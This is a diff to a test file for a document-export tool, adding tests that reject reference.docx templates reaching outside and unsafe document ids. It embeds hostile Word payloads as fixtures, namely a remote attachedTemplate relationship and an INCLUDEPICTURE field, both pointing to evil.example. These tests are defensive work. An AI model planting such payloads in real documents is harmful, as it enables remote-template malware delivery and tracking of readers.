@@ -583,3 +583,47 @@ def test_a_font_that_is_a_folder_or_a_looping_link_is_an_error(letters, tmp_path
             face.symlink_to(face)
         with pytest.raises(ConfigError, match="directory|loop|Too many levels|cannot read"):
             build([letters], tmp_path / "out", ["pdf"], options=ExportOptions(style_dir=style))
+
+
+def _reference_with(tmp_path, part: str, change) -> Path:
+    import zipfile
+    from corresp.exporters import default_style_dir
+    style = tmp_path / "style"
+    style.mkdir(exist_ok=True)
+    with zipfile.ZipFile(default_style_dir() / "reference.docx") as src, \
+            zipfile.ZipFile(style / "reference.docx", "w", zipfile.ZIP_DEFLATED) as out:
+        names = src.namelist()
+        for name in names:
+            data = src.read(name)
+            out.writestr(name, change(data) if name == part else data)
+        if part not in names:
+            out.writestr(part, change(b""))
+    return style
+
+
+@pytest.mark.parametrize("part, change, says", [
+    ("word/_rels/settings.xml.rels", lambda d: (
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
+     "outside the document"),
+    ("word/document.xml", lambda d: d.replace(b"</w:body>", b'<w:p><w:r><w:instrText> INCLUDEPICTURE '
+                                                             b'"http://evil.example/x.png" \\d </w:instrText></w:r>'
+                                                             b'</w:p></w:body>'), "fetches a file"),
+])
+def test_a_reference_docx_that_reaches_outside_is_refused(letters, tmp_path, part, change, says):
+    from corresp.errors import ConfigError
+    style = _reference_with(tmp_path, part, change)
+    with pytest.raises(ConfigError, match=says):
+        build([letters], tmp_path / "out", ["docx"], options=ExportOptions(style_dir=style))
+
+
+@pytest.mark.parametrize("doc_id", ["a%20b", "x?y", 'q"uote', "a/b", "a<b"])
+def test_document_ids_must_be_safe_link_targets(edition_files, tmp_path, doc_id):
+    def change(data):
+        old = data["documents"][0]["id"]
+        data["documents"][0]["id"] = doc_id
+        data["chapters"][0]["documents"] = [doc_id if i == old else i for i in data["chapters"][0]["documents"]]
+    r = corresp("build", _json_with(edition_files, tmp_path, change), "-o", tmp_path / "out", "-f", "epub",
+                cwd=tmp_path)
+    assert r.returncode == 2 and "document id" in r.stderr, r.stderr
